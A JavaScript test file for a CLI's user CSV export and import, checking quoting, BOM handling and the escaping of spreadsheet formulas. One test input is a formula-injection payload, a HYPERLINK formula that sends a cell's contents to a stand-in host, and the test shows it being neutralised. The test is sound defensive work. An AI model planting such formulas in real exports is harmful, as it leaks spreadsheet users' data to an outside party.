import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readCsv, toCsv } from '../src/cli/remote/csv.js';

/** The CSV of `cmi users export` and `import` (docs/cli.md#users): quoting, formulas, the BOM. */
describe('cmi users CSV', () => {
  it('a cell a spreadsheet would run as a formula is written as text, after an apostrophe', () => {
    assert.equal(
      toCsv([['=HYPERLINK("http://x.example/?"&A1)', '+1', '-2+3', '@SUM(A1)', '\tTab', 'plain', 'a-b', '']]),
      `"'=HYPERLINK(""http://x.example/?""&A1)",'+1,'-2+3,'@SUM(A1),'\tTab,plain,a-b,\r\n`,
    );
  });

  it('quotes commas, quotes, line ends and edge spaces; reads its own output back (quoted spaces kept), with a BOM', () => {
    const rows = [['login', 'first_name'], ['ann', 'Ann, "the" first\nline'], ['bo', ' padded ']];
    const text = toCsv(rows);
    assert.equal(text, 'login,first_name\r\nann,"Ann, ""the"" first\nline"\r\nbo," padded "\r\n');
    assert.deepEqual(readCsv(`\uFEFF${text}`), [
      { line: 3, fields: { login: 'ann', first_name: 'Ann, "the" first\nline' } },
      { line: 4, fields: { login: 'bo', first_name: ' padded ' } },
    ]);
  });
});
